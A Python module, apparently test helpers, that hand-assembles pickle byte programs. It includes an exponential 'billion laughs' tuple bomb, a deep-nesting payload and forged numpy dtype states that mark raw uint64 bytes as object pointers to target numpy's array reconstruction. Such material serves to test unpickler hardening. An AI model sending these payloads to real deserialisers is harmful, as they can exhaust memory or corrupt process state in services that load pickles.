"""Pickles that no pickler writes, opcode by opcode."""

import pickle
import struct


def text(value):
    content = value.encode("utf-8", "surrogatepass")
    return pickle.BINUNICODE + struct.pack("<I", len(content)) + content


def whole(value):
    return (
        pickle.LONG1
        + bytes([len(n := value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True))])
        + n
    )


def name(module, attribute):
    return pickle.GLOBAL + f"{module}\n{attribute}\n".encode()


def call(function, *arguments):
    return function + pickle.MARK + b"".join(arguments) + pickle.TUPLE + pickle.REDUCE


def tuple_of(*parts):
    return pickle.MARK + b"".join(parts) + pickle.TUPLE


def dict_of(*parts):
    return pickle.EMPTY_DICT + pickle.MARK + b"".join(parts) + pickle.SETITEMS


def program(*parts):
    return pickle.PROTO + b"\x04" + b"".join(parts) + pickle.STOP


def laughs(levels=30):
    """A tuple of two tuples of two tuples ...: 2 bytes of a program a level, 2^levels values."""
    return pickle.EMPTY_TUPLE + (pickle.DUP + pickle.TUPLE2) * levels


def nested(levels):
    return pickle.EMPTY_TUPLE + pickle.TUPLE1 * levels


RECONSTRUCT = name("numpy.core.multiarray", "_reconstruct")
DTYPE = name("numpy", "dtype")


def dtype(code, state=None):
    made = call(DTYPE, text(code), pickle.NEWFALSE, pickle.NEWTRUE)
    return made if state is None else made + state + pickle.BUILD


def dtype_state(*, order="<", subarray=b"N", names=b"N", fields=b"N", size=-1, flags=0):
    parts = (whole(3), text(order), subarray, names, fields, whole(size), whole(size), whole(flags))
    return tuple_of(*parts)


def array(shape, made, content):
    state = tuple_of(whole(1), shape, made, pickle.NEWFALSE, content)
    empty = call(RECONSTRUCT, name("numpy", "ndarray"), tuple_of(whole(0)), text("b"))
    return empty + state + pickle.BUILD


def raw(content):
    return pickle.BINBYTES + struct.pack("<I", len(content)) + content


def pointers(count=64):
    """An array of uint64 whose dtype claims, by its flags and a field, that the values are objects."""
    inner = dtype("O8", dtype_state(order="|", flags=63))
    fields = dict_of(text("f"), tuple_of(inner, whole(0)))
    state = dtype_state(order="|", names=tuple_of(text("f")), fields=fields, size=8, flags=1)
    hostile = dtype("V8", state)
    return array(tuple_of(whole(count)), hostile, raw(b"A" * 8 * count))


def flagged(count=64):
    """The same by flags alone."""
    return array(tuple_of(whole(count)), dtype("u8", dtype_state(flags=1)), raw(b"A" * 8 * count))
